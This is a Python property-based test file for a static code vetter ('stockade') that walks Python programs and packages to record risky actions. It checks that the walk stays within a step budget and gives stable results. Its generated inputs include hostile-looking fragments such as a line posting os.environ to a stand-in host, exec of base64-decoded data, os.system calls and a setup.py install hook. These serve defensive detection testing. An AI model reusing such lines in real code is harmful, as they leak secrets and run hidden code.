"""No program makes the walk raise, run on without end, or leave something out without saying so."""

from __future__ import annotations

import sysconfig
from functools import cache
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from tests.vetter.python.interpreting import walked

from stockade.vetter.acts import Act
from stockade.vetter.python.walk import Walked

BUDGET = 40_000
SLACK = 5_000
"""Steps that one operation may cost at once: it is counted before the next is refused."""
MODULES = (
    "argparse",
    "ast",
    "asyncio/base_events",
    "codecs",
    "collections/__init__",
    "ctypes/__init__",
    "dataclasses",
    "email/message",
    "enum",
    "functools",
    "http/client",
    "importlib/_bootstrap_external",
    "inspect",
    "json/decoder",
    "logging/__init__",
    "multiprocessing/pool",
    "os",
    "pathlib",
    "pickle",
    "platform",
    "random",
    "shutil",
    "socket",
    "subprocess",
    "tarfile",
    "tempfile",
    "threading",
    "typing",
    "urllib/request",
    "webbrowser",
    "zipfile",
)

names = st.sampled_from(
    ["a", "b", "c", "f", "os", "self", "C", "requests", "__builtins__", "exec", "getattr"]
)
attributes = st.sampled_from(
    ["system", "environ", "x", "post", "__dict__", "__class__", "get", "append", "join"]
)
constants = st.one_of(
    st.sampled_from(["None", "True", "...", "'os'", "b'x'", "'aW1wb3J0IG9z'", "{}", "[]", "()", "1.5", "1j"]),
    st.integers(-5, 10**6).map(lambda n: f"({n})"),
    st.text(max_size=8).map(repr),
)
operators = st.sampled_from(
    ["+", "-", "*", "%", "^", "|", "<<", "//", "**", "@", "and", "or", "==", "in", "is"]
)


def deeper(inner: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    """Expressions of expressions."""
    return st.one_of(
        st.tuples(inner, attributes).map(lambda p: f"({p[0]}).{p[1]}"),
        st.tuples(inner, operators, inner).map(lambda p: f"({p[0]} {p[1]} {p[2]})"),
        st.tuples(inner, st.lists(inner, max_size=3)).map(lambda p: f"({p[0]})({', '.join(p[1])})"),
        st.tuples(inner, inner).map(lambda p: f"({p[0]})(*({p[1]}), **({p[1]}))"),
        st.tuples(inner, inner).map(lambda p: f"({p[0]})[{p[1]}]"),
        st.tuples(inner, inner, inner).map(lambda p: f"({p[0]})[{p[1]}:{p[2]}]"),
        st.lists(inner, max_size=4).map(lambda p: f"[{', '.join(p)}]"),
        st.lists(st.tuples(inner, inner), max_size=3).map(
            lambda p: "{" + ", ".join(f"{k}: {v}" for k, v in p) + "}"
        ),
        st.tuples(names, inner).map(lambda p: f"(lambda {p[0]}: {p[1]})" if p[0] != "__builtins__" else p[1]),
        st.tuples(inner, names, inner).map(lambda p: f"[{p[0]} for {p[1]} in {p[2]}]"),
        st.tuples(inner, names, inner, inner).map(lambda p: f"{{{p[0]}: 1 for {p[1]} in {p[2]} if {p[3]}}}"),
        st.tuples(inner, inner, inner).map(lambda p: f"({p[0]} if {p[1]} else {p[2]})"),
        st.tuples(inner, inner).map(lambda p: f"getattr({p[0]}, {p[1]})"),
        inner.map(lambda p: f"exec({p})"),
        inner.map(lambda p: f"__import__({p})"),
        inner.map(lambda p: f"(yield_ := {p})"),
        inner.map(lambda p: f"__import__('base64').b64decode({p})"),
        inner.map(lambda p: f"open({p}).read()"),
        inner.map(lambda p: f"requests.post('https://x.invalid', data={p})"),
    )


expressions = st.recursive(st.one_of(names, constants), deeper, max_leaves=8)


def indented(text: str) -> str:
    """One level in."""
    return "\n".join(f"    {line}" for line in text.split("\n"))


def compound(inner: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    """Statements of statements."""
    bodies = st.lists(inner, min_size=1, max_size=3).map("\n".join).map(indented)
    return st.one_of(
        st.tuples(expressions, bodies, bodies).map(lambda p: f"if {p[0]}:\n{p[1]}\nelse:\n{p[2]}"),
        st.tuples(names, expressions, bodies).map(lambda p: f"for {p[0]} in {p[1]}:\n{p[2]}"),
        st.tuples(expressions, bodies).map(lambda p: f"while {p[0]}:\n{p[1]}"),
        st.tuples(bodies, bodies).map(lambda p: f"try:\n{p[0]}\nexcept Exception as c:\n{p[1]}"),
        st.tuples(expressions, names, bodies).map(lambda p: f"with {p[0]} as {p[1]}:\n{p[2]}"),
        st.tuples(names, names, expressions, bodies).map(
            lambda p: f"def {p[0]}({p[1]}={p[2]}, *args, **kw):\n{p[3]}\n    return {p[1]}"
        ),
        st.tuples(names, bodies).map(lambda p: f"async def {p[0]}(self):\n{p[1]}\n    yield self"),
        st.tuples(names, expressions, bodies).map(lambda p: f"class {p[0]}({p[1]}):\n{p[2]}"),
        st.tuples(expressions, names, bodies).map(lambda p: f"@({p[0]})\ndef {p[1]}():\n{p[2]}"),
        st.tuples(expressions, bodies).map(lambda p: f"match {p[0]}:\n    case [a, *b]:\n{indented(p[1])}"),
    )


simple = st.one_of(
    expressions,
    st.tuples(names, expressions).map(lambda p: f"{p[0]} = {p[1]}"),
    st.tuples(names, expressions).map(lambda p: f"{p[0]} += {p[1]}"),
    st.tuples(names, attributes, expressions).map(lambda p: f"{p[0]}.{p[1]} = {p[2]}"),
    st.tuples(names, expressions, expressions).map(lambda p: f"{p[0]}[{p[1]}] = {p[2]}"),
    expressions.map(lambda p: f"a, *b = {p}"),
    expressions.map(lambda p: f"return_ = [*{p}]"),
    names.map(lambda p: f"import {p}" if p not in {"self", "__builtins__"} else "import os"),
    st.sampled_from(
        ["from os import *", "from . import pkg", "import pkg", "global a", "pass", "from .. import x"]
    ),
)
programs = st.lists(st.recursive(simple, compound, max_leaves=6), max_size=6).map("\n".join)


def assert_bounded(result: Walked) -> None:
    """The walk kept to its budget, or says that it did not."""
    assert result.steps <= BUDGET + SLACK
    if result.steps > BUDGET:
        assert result.gaps


@settings(max_examples=250, deadline=None, suppress_health_check=list(HealthCheck))
@given(programs)
@example("a = []\na.append(a)\nexec(str(a))\nrequests.post('https://x.invalid', data=a)")
@example("[a][::0]\n[a][1j:]\n(a, b)['x':]")
@example("class C(C):\n    pass\nC().x")
@example("class C:\n    pass\nclass D(C):\n    pass\nC.__bases__ = (D,)\nD().x()")
@example("f = lambda f: f(f)\nf(f)")
@example("def f(*a, **k):\n    return f(*a, f, **k)\nf()")
@example("exec('exec(x)' * 3)\nx = 'exec(x)'\nexec(x)")
@example("d = {}\nd['d'] = d\nexec(d['d']['d'], d)")
@example("import pkg\npkg.pkg = pkg\npkg.pkg.pkg.x()")
@example("a = b = [1]\nfor a in b:\n    b.append(a)")
@example("class C:\n    def __getattr__(self, n):\n        return self.x\nC().y")
@example("class C:\n    def __iter__(self):\n        return self\nfor a in C():\n    pass")
@example("class C:\n    @property\n    def x(self):\n        return self.x\nC().x")
@example("def __getattr__(name):\n    from . import other\n    return other\nfrom . import x")
def test_no_program_breaks_the_walk(source: str) -> None:
    assert_bounded(walked(source, budget=BUDGET))


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(programs, programs, programs)
def test_no_distribution_breaks_the_walk(first: str, second: str, script: str) -> None:
    files: dict[str, str | bytes] = {
        "pkg/__init__.py": f"from . import b\nfrom .b import *\n{first}",
        "pkg/b.py": f"import pkg\nfrom pkg import a, f\n{second}",
        "setup.py": f"import pkg.b\nfrom setuptools import setup\n{script}\nsetup(cmdclass={{'install': C}})",
    }
    assert_bounded(walked(files, budget=BUDGET))


@cache
def library(module: str) -> str:
    """The source of a module of the standard library."""
    path = Path(sysconfig.get_paths()["stdlib"]) / f"{module}.py"
    return path.read_text(encoding="utf-8") if path.is_file() else ""


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.sampled_from(MODULES), st.floats(0, 1), st.floats(0, 1))
def test_no_slice_of_the_standard_library_breaks_the_walk(module: str, start: float, stop: float) -> None:
    text = library(module)
    first, last = sorted((int(start * len(text)), int(stop * len(text))))
    assert_bounded(walked(text[first:last], budget=BUDGET))


@settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.sampled_from(MODULES), st.data())
def test_no_mutation_of_the_standard_library_breaks_the_walk(module: str, data: st.DataObject) -> None:
    lines = library(module).split("\n")
    for _ in range(4):
        place = data.draw(st.integers(0, len(lines) - 1))
        change = data.draw(st.sampled_from(["drop", "twice", "swap", "indent", "char"]))
        if change == "drop":
            lines[place] = ""
        elif change == "twice":
            lines.insert(place, lines[place])
        elif change == "swap":
            other = data.draw(st.integers(0, len(lines) - 1))
            lines[place], lines[other] = lines[other], lines[place]
        elif change == "indent":
            lines[place] = "    " + lines[place]
        else:
            lines[place] += data.draw(st.sampled_from(["(", ")", "[", "'", ":", "\\", "\0", "é", "\t", "@"]))
    assert_bounded(walked("\n".join(lines), budget=BUDGET))


@pytest.mark.parametrize("module", MODULES)
def test_the_standard_library_is_walked_to_its_end(module: str) -> None:
    result = walked(library(module))
    assert not any("steps" in gap for gap in result.gaps)


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(programs)
def test_the_same_program_gives_the_same_acts(source: str) -> None:
    assert _plain(walked(source, budget=BUDGET)) == _plain(walked(source, budget=BUDGET))


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    st.lists(st.sampled_from(["x1 = 1", "import json", "def g1(): return 2", "class G1: y = 3"]), max_size=5)
)
def test_statements_of_no_concern_hide_nothing(noise: list[str]) -> None:
    source = "import os, requests\n{}\nrequests.post('https://x.invalid', data=dict(os.environ))"
    plain = {(act.kind, act.callee) for act in walked(source.format("")).acts}
    assert {(act.kind, act.callee) for act in walked(source.format("\n".join(noise))).acts} >= plain


def _plain(result: Walked) -> list[Act]:
    return sorted(result.acts, key=lambda act: (act.at, act.kind, act.callee, act.target))


@pytest.mark.parametrize(
    "source",
    [
        "import requests\nrequests.post('http://host.invalid', json=10 ** 5000)",
        "import subprocess\nsubprocess.run(['x', 10 ** 5000])",
        "import socket\ns = socket.socket()\ns.connect(('192.0.2.1', 10 ** 5000))",
        "import os\nos.system(f'{10 ** 5000}')",
    ],
)
def test_numbers_that_python_does_not_write_down_break_nothing(source: str) -> None:
    assert walked(source).acts
